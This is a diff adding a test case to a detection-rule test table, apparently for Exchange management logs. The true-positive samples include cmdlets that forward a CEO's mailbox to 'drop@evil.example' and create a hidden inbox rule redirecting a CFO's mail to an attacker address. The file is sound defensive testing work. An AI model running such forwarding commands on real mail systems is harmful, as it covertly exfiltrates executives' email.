@@ -98,6 +98,12 @@ export const cases: RuleCase[] = [
     tn: [mgmt('Add-RoleGroupMember', '-Identity "Help Desk" -Member "jdoe"'), mgmt('Get-RoleGroupMember', '-Identity "Organization Management"')],
   },
   {
+    rule: 'cmdlets/mgmt_mail_forwarding.yml',
+    log: 'evtx',
+    tp: [mgmt('Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress "smtp:drop@evil.example" -DeliverToMailboxAndForward "True"'), mgmt('New-InboxRule', '-Mailbox "cfo" -Name "." -RedirectTo "x@evil.example"')],
+    tn: [mgmt('Set-Mailbox', '-Identity "jdoe" -ProhibitSendQuota "50GB"'), mgmt('New-InboxRule', '-Mailbox "jdoe" -Name "News" -MoveToFolder "jdoe:\\News"')],
+  },
+  {
     rule: 'other-cves/mgmt_cve_2021_42321_get_app.yml',
     log: 'evtx',
     tp: [],
